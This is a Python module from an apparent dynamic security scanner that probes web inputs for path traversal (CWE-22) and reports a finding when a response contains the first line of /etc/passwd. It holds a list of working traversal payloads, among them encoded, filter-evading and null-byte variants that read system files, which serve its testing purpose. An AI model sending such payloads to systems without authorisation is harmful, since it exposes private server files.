"""Path traversal and arbitrary file read (CWE-22): an input used as a file name reads a file outside the folder
the app means, here the system's `/etc/passwd` (present in every Unix sandbox), recognised by its first line's
shape (`root:x:0:0:`), which the ordinary answer does not have. Relative climbs, their encoded and filter-evading
forms, and an absolute path are tried."""

from __future__ import annotations

import re

from services.analyzers.dynamic.attack_tool import PointCheck, Reach, first_hit
from services.analyzers.dynamic.attacker import Attacker, Sent
from services.analyzers.dynamic.attacks import Point
from services.analyzers.dynamic.expectations import Contains
from services.analyzers.dynamic.proof import make_proof
from shared.results.findings import Finding

CWE = "CWE-22"
PASSWD = re.compile(r"root:[^:\n]*:0:0:[^\n]*")
CLIMB = "../" * 8
PAYLOADS = (
    CLIMB + "etc/passwd",
    "/etc/passwd",
    "....//" * 8 + "etc/passwd",
    "..%2f" * 8 + "etc%2fpasswd",
    "%2e%2e%2f" * 8 + "etc%2fpasswd",
    "..\\" * 8 + "etc\\passwd",
    "assay.txt/" + CLIMB + "etc/passwd",
    CLIMB + "etc/passwd%00.txt",
)
FILE_NAMES = re.compile(
    r"file|path|name|doc|template|page|img|image|attach|download|report|log|dir|folder|src|load|read|view|include",
    re.IGNORECASE,
)
WHY = "the answer holds the first line of the system's /etc/passwd, which the app reads when the input climbs out of its folder: any file the app can read can be read this way"


def passwd_line(sent: Sent) -> str | None:
    found = PASSWD.search(sent.text)
    return found.group(0) if found else None


class PathTraversal(PointCheck):
    name = "path-traversal"
    cwe = CWE

    async def probe(
        self, attacker: Attacker, reached: Reach, point: Point, *, in_path: bool = False
    ) -> Finding | None:
        # file-like names and path parameters (sent encoded: `%2F`) get every form; other inputs the plain climb
        # and the absolute path
        every = FILE_NAMES.search(point.field.name) or point.field.location == "path"
        hit = await first_hit(
            attacker, reached, point, list(PAYLOADS if every else PAYLOADS[:2]), passwd_line
        )
        if hit is None:
            return None
        return self.point_finding(
            reached,
            point,
            rule_id="path-traversal",
            severity="critical",
            message=f"Arbitrary file read through the {point.label}: {hit.payload!r} returns /etc/passwd",
            proof=make_proof([reached.baseline, hit.sent], hit.evidence, WHY),
            expectation=Contains(exchange=1, text=hit.evidence, control=0),
            payload=hit.payload,
        )
